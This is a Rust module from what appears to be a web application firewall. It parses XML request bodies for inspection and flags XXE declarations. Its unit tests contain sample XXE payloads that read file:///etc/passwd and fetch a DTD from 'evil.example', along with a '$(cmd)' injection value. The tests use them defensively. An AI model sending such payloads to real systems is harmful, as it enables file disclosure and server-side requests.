//! XML bodies (`text/xml`, `application/xml`, `+xml`), as ModSecurity's XML processor exposes
//! them: the text content of the document (`XML:/*`) and every attribute value (`XML://@*`).
//! A small, non-validating tokenizer: no DTD processing and no entity expansion beyond the five
//! predefined entities and character references (so no XXE), bounded depth, linear time.

use std::borrow::Cow;

use super::{Field, Inputs, Limits, ParseFlags, Source};

/// Parses an XML body into `inputs`: one [`Source::XmlAttr`] field per attribute and one
/// [`Source::XmlText`] field holding all text content. Malformed XML sets `BODY_PARSE_ERROR`.
pub fn parse<'a>(body: &'a [u8], inputs: &mut Inputs<'a>, limits: &Limits) {
    let mut p = Parser {
        s: body,
        i: 0,
        text: Vec::new(),
        stack: Vec::new(),
        seen_root: false,
        nodes: 0,
    };
    let ok = p.document(inputs, limits);
    if !ok {
        inputs.flags.set(ParseFlags::BODY_PARSE_ERROR);
    }
    inputs.fields.push(Field {
        source: Source::XmlText,
        name: Cow::Borrowed(b""),
        value: Cow::Owned(p.text),
    });
}

struct Parser<'a> {
    s: &'a [u8],
    i: usize,
    text: Vec<u8>,
    stack: Vec<&'a [u8]>,
    seen_root: bool,
    /// Text nodes added as fields so far.
    nodes: usize,
}

impl<'a> Parser<'a> {
    fn document(&mut self, inputs: &mut Inputs<'a>, limits: &Limits) -> bool {
        while self.i < self.s.len() {
            let rest = &self.s[self.i..];
            if rest[0] != b'<' {
                let end = memchr::memchr(b'<', rest).map_or(self.s.len(), |n| self.i + n);
                let chunk = &self.s[self.i..end];
                if self.stack.is_empty() && !chunk.iter().all(u8::is_ascii_whitespace) {
                    return false;
                }
                if let Some(&element) = self.stack.last() {
                    let start = self.text.len();
                    decode_into(chunk, &mut self.text);
                    self.node(inputs, limits, element, chunk, start);
                }
                self.i = end;
            } else if rest.starts_with(b"<?") {
                if !self.skip_past(b"?>") {
                    return false;
                }
            } else if rest.starts_with(b"<!--") {
                if !self.skip_past(b"-->") {
                    return false;
                }
            } else if rest.starts_with(b"<![CDATA[") {
                let start = self.i + 9;
                match memchr::memmem::find(&self.s[start..], b"]]>") {
                    Some(n) => {
                        let data = &self.s[start..start + n];
                        self.text.extend_from_slice(data);
                        if let Some(&element) = self.stack.last() {
                            self.push_node(inputs, limits, element, Cow::Borrowed(data));
                        }
                        self.i = start + n + 3;
                    }
                    None => return false,
                }
            } else if rest.starts_with(b"<!") {
                let start = self.i;
                let closed = self.skip_declaration();
                if declares_external_entity(&self.s[start..self.i]) {
                    inputs.flags.set(ParseFlags::XML_EXTERNAL_ENTITY);
                }
                if !closed {
                    return false;
                }
            } else if rest.starts_with(b"</") {
                if !self.end_tag() {
                    return false;
                }
            } else if !self.start_tag(inputs, limits) {
                return false;
            }
        }
        self.seen_root && self.stack.is_empty()
    }

    /// Adds a text chunk of `element` as a [`Source::XmlNode`] field, unless it is only
    /// blanks: `raw` as written, borrowed when it has no entity, else its decoded form, which
    /// the whole text holds from `decoded_at`.
    fn node(
        &mut self,
        inputs: &mut Inputs<'a>,
        limits: &Limits,
        element: &'a [u8],
        raw: &'a [u8],
        decoded_at: usize,
    ) {
        if raw.iter().all(u8::is_ascii_whitespace) {
            return;
        }
        let value = if raw.contains(&b'&') {
            Cow::Owned(self.text[decoded_at..].to_vec())
        } else {
            Cow::Borrowed(raw)
        };
        self.push_node(inputs, limits, element, value);
    }

    /// Adds a [`Source::XmlNode`] field, up to [`Limits::max_args`] of them.
    fn push_node(
        &mut self,
        inputs: &mut Inputs<'a>,
        limits: &Limits,
        element: &'a [u8],
        value: Cow<'a, [u8]>,
    ) {
        if self.nodes < limits.max_args {
            self.nodes += 1;
            inputs.fields.push(Field {
                source: Source::XmlNode,
                name: Cow::Borrowed(element),
                value,
            });
        }
    }

    fn skip_past(&mut self, end: &[u8]) -> bool {
        match memchr::memmem::find(&self.s[self.i..], end) {
            Some(n) => {
                self.i += n + end.len();
                true
            }
            None => false,
        }
    }

    /// `<!DOCTYPE …>` with an optional internal subset in brackets.
    fn skip_declaration(&mut self) -> bool {
        let mut depth = 0usize;
        while self.i < self.s.len() {
            match self.s[self.i] {
                b'[' => depth += 1,
                b']' => depth = depth.saturating_sub(1),
                b'>' if depth == 0 => {
                    self.i += 1;
                    return true;
                }
                _ => {}
            }
            self.i += 1;
        }
        false
    }

    fn name(&mut self) -> &'a [u8] {
        let start = self.i;
        while self.i < self.s.len()
            && !self.s[self.i].is_ascii_whitespace()
            && !matches!(self.s[self.i], b'>' | b'/' | b'=' | b'<')
        {
            self.i += 1;
        }
        &self.s[start..self.i]
    }

    fn skip_space(&mut self) {
        while self.i < self.s.len() && self.s[self.i].is_ascii_whitespace() {
            self.i += 1;
        }
    }

    fn end_tag(&mut self) -> bool {
        self.i += 2;
        let name = self.name();
        self.skip_space();
        if self.s.get(self.i) != Some(&b'>') || self.stack.pop() != Some(name) {
            return false;
        }
        self.i += 1;
        true
    }

    fn start_tag(&mut self, inputs: &mut Inputs<'a>, limits: &Limits) -> bool {
        self.i += 1;
        let name = self.name();
        if name.is_empty() || (self.stack.is_empty() && self.seen_root) {
            return false;
        }
        loop {
            self.skip_space();
            match self.s.get(self.i) {
                None => return false,
                Some(b'>') => {
                    self.i += 1;
                    if self.stack.len() >= limits.json_max_depth {
                        inputs.flags.set(ParseFlags::JSON_TOO_DEEP);
                        return false;
                    }
                    self.stack.push(name);
                    self.seen_root = true;
                    return true;
                }
                Some(b'/') => {
                    if self.s.get(self.i + 1) != Some(&b'>') {
                        return false;
                    }
                    self.i += 2;
                    self.seen_root = true;
                    return true;
                }
                Some(_) => {
                    if !self.attribute(inputs) {
                        return false;
                    }
                }
            }
        }
    }

    fn attribute(&mut self, inputs: &mut Inputs<'a>) -> bool {
        let name = self.name();
        self.skip_space();
        if name.is_empty() || self.s.get(self.i) != Some(&b'=') {
            return false;
        }
        self.i += 1;
        self.skip_space();
        let Some(&quote) = self.s.get(self.i).filter(|q| matches!(q, b'"' | b'\'')) else {
            return false;
        };
        let start = self.i + 1;
        let Some(n) = memchr::memchr(quote, &self.s[start..]) else {
            return false;
        };
        let raw = &self.s[start..start + n];
        self.i = start + n + 1;
        let mut value = Vec::new();
        let value = if raw.contains(&b'&') {
            decode_into(raw, &mut value);
            Cow::Owned(value)
        } else {
            Cow::Borrowed(raw)
        };
        inputs.fields.push(Field {
            source: Source::XmlAttr,
            name: Cow::Borrowed(name),
            value,
        });
        true
    }
}

/// Appends `raw` with the predefined entities and character references decoded.
fn decode_into(raw: &[u8], out: &mut Vec<u8>) {
    let mut i = 0;
    while i < raw.len() {
        if raw[i] == b'&' {
            if let Some(end) = raw[i..].iter().take(12).position(|&b| b == b';') {
                let entity = &raw[i + 1..i + end];
                if let Some(c) = entity_value(entity) {
                    let mut buf = [0u8; 4];
                    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                    i += end + 1;
                    continue;
                }
            }
        }
        out.push(raw[i]);
        i += 1;
    }
}

fn entity_value(entity: &[u8]) -> Option<char> {
    match entity {
        b"lt" => Some('<'),
        b"gt" => Some('>'),
        b"amp" => Some('&'),
        b"quot" => Some('"'),
        b"apos" => Some('\''),
        [b'#', b'x' | b'X', hex @ ..] => std::str::from_utf8(hex)
            .ok()
            .and_then(|h| u32::from_str_radix(h, 16).ok())
            .and_then(char::from_u32),
        [b'#', dec @ ..] => std::str::from_utf8(dec)
            .ok()
            .and_then(|d| d.parse().ok())
            .and_then(char::from_u32),
        _ => None,
    }
}

/// Bytes of an entity declaration in which its `SYSTEM` or `PUBLIC` keyword is looked for (it
/// follows the entity's name), so that many unclosed declarations cost linear time.
const ENTITY_HEAD: usize = 256;

/// True when the declaration (a `<!DOCTYPE …>` and its internal subset) declares an entity
/// whose value comes from outside the document: `<!ENTITY name SYSTEM "uri">`, `<!ENTITY % name
/// PUBLIC "id" "uri">`.
fn declares_external_entity(declaration: &[u8]) -> bool {
    memchr::memmem::find_iter(declaration, b"<!ENTITY").any(|at| {
        let entity = &declaration[at..declaration.len().min(at + ENTITY_HEAD)];
        let entity = &entity[..memchr::memchr(b'>', entity).unwrap_or(entity.len())];
        entity
            .split(u8::is_ascii_whitespace)
            .any(|word| word == b"SYSTEM" || word == b"PUBLIC")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn parsed(body: &[u8]) -> Inputs<'_> {
        let mut inputs = Inputs::default();
        parse(body, &mut inputs, &Limits::default());
        inputs
    }

    fn text(inputs: &Inputs<'_>) -> Vec<u8> {
        inputs
            .fields
            .iter()
            .find(|f| f.source == Source::XmlText)
            .map(|f| f.value.to_vec())
            .unwrap_or_default()
    }

    #[test]
    fn each_text_node_is_also_a_field_of_its_element() {
        let i = parsed(b"<call><m>pingback.ping</m><p><s>http://a/</s>\n  <s>x &amp; y</s><d><![CDATA[<raw>]]></d></p></call>");
        assert_eq!(text(&i), b"pingback.pinghttp://a/\n  x & y<raw>");
        let nodes: Vec<_> = i
            .fields
            .iter()
            .filter(|f| f.source == Source::XmlNode)
            .map(|f| (f.name.to_vec(), f.value.to_vec()))
            .collect();
        assert_eq!(
            nodes,
            [
                (b"m".to_vec(), b"pingback.ping".to_vec()),
                (b"s".to_vec(), b"http://a/".to_vec()),
                (b"s".to_vec(), b"x & y".to_vec()),
                (b"d".to_vec(), b"<raw>".to_vec()),
            ]
        );
        let limits = Limits {
            max_args: 2,
            ..Limits::default()
        };
        let mut few = Inputs::default();
        parse(b"<a><b>1</b><b>2</b><b>3</b></a>", &mut few, &limits);
        let kept = few.fields.iter().filter(|f| f.source == Source::XmlNode);
        assert_eq!(kept.count(), 2, "text nodes stop at the argument limit");
        assert_eq!(text(&few), b"123", "the whole text is kept");
    }

    #[test]
    fn collects_text_and_attributes() {
        let i = parsed(br#"<?xml version="1.0"?><root><a probe="$(cmd)" b='x&amp;y'>hi &lt;there&gt;</a><![CDATA[<raw>]]><!-- c --></root>"#);
        assert!(!i.flags.has(ParseFlags::BODY_PARSE_ERROR));
        assert_eq!(text(&i), b"hi <there><raw>");
        let attrs: Vec<_> = i
            .fields
            .iter()
            .filter(|f| f.source == Source::XmlAttr)
            .map(|f| (f.name.to_vec(), f.value.to_vec()))
            .collect();
        assert_eq!(
            attrs,
            vec![
                (b"probe".to_vec(), b"$(cmd)".to_vec()),
                (b"b".to_vec(), b"x&y".to_vec())
            ]
        );
    }

    #[test]
    fn malformed_documents_are_flagged() {
        for bad in [
            &b"<a><b></a>"[..],
            b"<a>",
            b"text",
            b"<a></a><b></b>",
            b"<a x=1></a>",
            b"<!-- x",
        ] {
            assert!(
                parsed(bad).flags.has(ParseFlags::BODY_PARSE_ERROR),
                "{:?}",
                String::from_utf8_lossy(bad)
            );
        }
    }

    #[test]
    fn doctype_and_entities_are_not_expanded() {
        let i = parsed(b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>");
        assert_eq!(text(&i), b"&x;");
    }

    #[test]
    fn external_entity_declarations_are_flagged_and_internal_ones_are_not() {
        for xxe in [
            &b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>"[..],
            b"<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><r/>",
            b"<!DOCTYPE r [<!ENTITY\tx PUBLIC \"-//x\" \"http://evil.example/\">]><r>&x;</r>",
            b"<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">",
        ] {
            let flags = parsed(xxe).flags;
            assert!(flags.has(ParseFlags::XML_EXTERNAL_ENTITY), "{:?}", String::from_utf8_lossy(xxe));
        }
        for benign in [
            &b"<!DOCTYPE html><html><p>SYSTEM PUBLIC</p></html>"[..],
            b"<!DOCTYPE r [<!ENTITY copy \"(c) ACME\">]><r>&copy;</r>",
            b"<r><note>the SYSTEM entity</note></r>",
        ] {
            assert!(!parsed(benign).flags.has(ParseFlags::XML_EXTERNAL_ENTITY));
        }
    }

    #[test]
    fn deep_nesting_stops_at_the_limit() {
        let body = "<a>".repeat(100_000);
        assert!(parsed(body.as_bytes()).flags.has(ParseFlags::JSON_TOO_DEEP));
    }
}
